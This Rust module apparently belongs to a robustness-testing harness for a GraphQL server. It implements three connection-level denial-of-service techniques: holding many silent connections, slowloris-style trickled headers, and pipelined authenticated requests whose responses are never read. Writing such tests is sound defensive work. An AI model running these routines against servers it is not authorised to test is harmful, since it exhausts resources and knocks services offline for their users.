//! Abuse by connections.

use super::Aim;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

pub fn begin(aim: &Aim, all: &mut JoinSet<()>) {
    all.spawn(silent(aim.clone()));
    all.spawn(slow_heads(aim.clone()));
    all.spawn(pipelines(aim.clone()));
}

/// More connections than the server takes, on which nothing is sent.
async fn silent(aim: Aim) {
    let mut held = Vec::new();
    while aim.goes_on() {
        if let Ok(connection) = TcpStream::connect(aim.address()).await {
            held.push(connection);
            aim.count("silent connections");
        }
        if held.len() > 600 {
            held.drain(..300);
        }
        aim.pause(5).await;
    }
}

/// A byte of a head from time to time.
async fn slow_heads(aim: Aim) {
    let mut held = Vec::new();
    while aim.goes_on() {
        if held.len() < 50
            && let Ok(mut connection) = TcpStream::connect(aim.address()).await
            && connection.write_all(b"GET /graphql HTTP/1.1\r\nX-Slow: ").await.is_ok()
        {
            held.push(connection);
        }
        let mut open = Vec::new();
        for mut connection in held {
            // One that the server has closed takes nothing more.
            match connection.write_all(b"x").await {
                Ok(()) => open.push(connection),
                Err(_) => aim.count("slow heads"),
            }
        }
        held = open;
        aim.pause(100).await;
    }
}

/// Many requests on one connection, whose answers are never read.
async fn pipelines(aim: Aim) {
    let query = "{hosts(first:200){nodes{id hostname address}}}";
    let request = format!(
        "GET /graphql?query={query} HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\n\r\n",
        aim.address(),
        aim.viewer
    );
    while aim.goes_on() {
        let Ok(mut connection) = TcpStream::connect(aim.address()).await else { continue };
        for _ in 0..500 {
            if !aim.goes_on() {
                return;
            }
            let writing = connection.write_all(request.as_bytes());
            match tokio::time::timeout(std::time::Duration::from_secs(1), writing).await {
                Ok(Ok(())) => {}
                // The server reads no more, or has closed the connection.
                Ok(Err(_)) | Err(_) => break,
            }
        }
        aim.count("pipelines that are not read");
        aim.pause(2_000).await;
    }
}
